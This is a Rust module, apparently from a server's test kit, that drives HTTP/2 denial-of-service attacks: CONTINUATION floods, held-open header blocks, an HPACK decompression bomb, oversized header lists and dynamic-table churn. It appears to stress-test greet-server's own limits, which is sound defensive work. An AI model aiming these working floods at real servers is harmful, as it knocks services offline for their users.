//! Header blocks that do not end, that decode to much, or that change the tables of HPACK.

use std::io;

use greet_testkit::framing::framed;
use greet_testkit::http2::{
    CONTINUATION, DATA, DEFAULT_WINDOW, END_HEADERS, END_STREAM, HEADERS, MAX_WINDOW,
    WINDOW_UPDATE, call_headers, frame, header_block,
};
use greet_testkit::{AttackState, HostilePeer};

use crate::harness::sample;

/// A literal with incremental indexing (RFC 7541, section 6.2.1): the header `x` with a value of 4001
/// bytes, which fills the default table.
const INDEXED: [u8; 6] = [0x40, 1, b'x', 0x7f, 0xa2, 0x1e];
const INDEXED_VALUE_BYTES: usize = 0x7f + 0x22 + 0x1e * 128;
/// The newest entry of the dynamic table.
const NEWEST_ENTRY: u8 = 0x80 | 62;
/// The start of a header `x` whose value has 60 000 bytes.
const LONG_LITERAL: [u8; 7] = [0, 1, b'x', 0x7f, 0xe1, 0xd3, 3];
/// Frames of CONTINUATION that servers accept without END_HEADERS.
const ALLOWED_CONTINUATIONS: usize = 3;
/// Calls that are sent at once.
const CALLS: u32 = 10;
/// New entries of each call. Each is about 100 bytes, so that they fill the default table.
const ENTRIES: u32 = 40;

pub(super) fn continuation_flood(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    peer.send(&frame(HEADERS, 0, 1, &call_headers(sample::PATH)))?;
    let part = frame(CONTINUATION, 0, 1, &header_block(&[("x", "continued")]));
    peer.flood(|_| part.repeat(64))
}

pub(super) fn unfinished_block(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    peer.send(&frame(HEADERS, 0, 1, &LONG_LITERAL))?;
    let part = frame(CONTINUATION, 0, 1, &[b'x'; 16_384]);
    peer.send(&part.repeat(ALLOWED_CONTINUATIONS))?;
    peer.hold()
}

/// One byte in a header block stands for 4 KB of headers.
pub(super) fn bomb(target: &str, attack: &AttackState) -> io::Result<()> {
    repeated_headers(target, attack, 2_000)
}

/// Header lists above 16 KiB, the default limit of hyper, and below 32 KiB, at which greet-server closes the
/// connection: rejected one by one.
pub(super) fn rejected_lists(target: &str, attack: &AttackState) -> io::Result<()> {
    repeated_headers(target, attack, 6)
}

fn repeated_headers(target: &str, attack: &AttackState, times: usize) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    let indexed = [&INDEXED[..], &[b'x'; INDEXED_VALUE_BYTES]].concat();
    let request = call_headers(sample::PATH);
    let flags = END_HEADERS | END_STREAM;
    peer.send(&frame(HEADERS, flags, 1, &[&request[..], &indexed].concat()))?;
    let block = [request, vec![NEWEST_ENTRY; times]].concat();
    let request = |call| frame(HEADERS, flags, 2 * call + 3, &block);
    peer.flood(|round| {
        let requests = (CALLS * round..CALLS * (round + 1)).map(request);
        requests.collect::<Vec<_>>().concat()
    })
}

/// Complete calls, each of which replaces the whole table.
pub(super) fn table_churn(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    let whole_window = (MAX_WINDOW - DEFAULT_WINDOW).to_be_bytes();
    peer.send(&frame(WINDOW_UPDATE, 0, 0, &whole_window))?; // for the replies
    let request = call_headers(sample::PATH);
    let entry = |number| [&[0x40, 1, b'x', 60][..], format!("{number:060}").as_bytes()].concat();
    for round in 0.. {
        let calls = (CALLS * round..CALLS * (round + 1)).map(|call| {
            let entries = (ENTRIES * call..ENTRIES * (call + 1)).map(entry);
            let block = [request.clone(), entries.collect::<Vec<_>>().concat()].concat();
            let head = frame(HEADERS, END_HEADERS, 2 * call + 1, &block);
            [head, frame(DATA, END_STREAM, 2 * call + 1, &framed(b""))].concat()
        });
        peer.send(&calls.collect::<Vec<_>>().concat())?;
        peer.wait_for_ended_streams(CALLS * (round + 1))?;
    }
    Ok(())
}
